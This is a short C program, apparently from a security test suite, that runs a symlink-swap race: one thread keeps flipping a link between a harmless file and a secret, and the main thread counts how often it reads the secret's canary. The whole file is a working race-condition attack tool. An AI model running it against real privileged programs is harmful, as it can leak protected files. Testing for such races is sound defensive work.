/* A symlink swap race: one thread keeps replacing DIR/x (symlink + rename) between a harmless
 * file and the secret; the main thread opens DIR/x and reads: swaprace DIR GOOD BAD N */
#include "attack.h"

static const char *dir, *good, *bad;
static volatile int stop;

static void *swapper(void *unused) {
    (void)unused;
    char tmp[4096], link[4096];
    snprintf(tmp, sizeof tmp, "%s/.tmp", dir);
    snprintf(link, sizeof link, "%s/x", dir);
    int i = 0;
    // Each step may fail while the other thread holds the name: the race goes on regardless.
    while (!stop) {
        unlink(tmp);
        if (symlink((i++ & 1) ? bad : good, tmp) == 0) rename(tmp, link);
    }
    return 0;
}

int main(int argc, char **argv) {
    need(argc, 5, "swaprace DIR GOOD BAD N");
    dir = argv[1]; good = argv[2]; bad = argv[3];
    int n = atoi(argv[4]);
    char link[4096];
    snprintf(link, sizeof link, "%s/x", dir);
    if (symlink(good, link) < 0) fail("symlink");
    pthread_t t;
    pthread_create(&t, 0, swapper, 0);
    usleep(20000);  // let the swapper get going
    int hits = 0, opened = 0;
    for (int i = 0; i < n; i++) opened += read_for_canary(link, &hits);
    stop = 1;
    pthread_join(t, 0);
    printf("opened %d, secret read %d times\n", opened, hits);
    return 0;
}
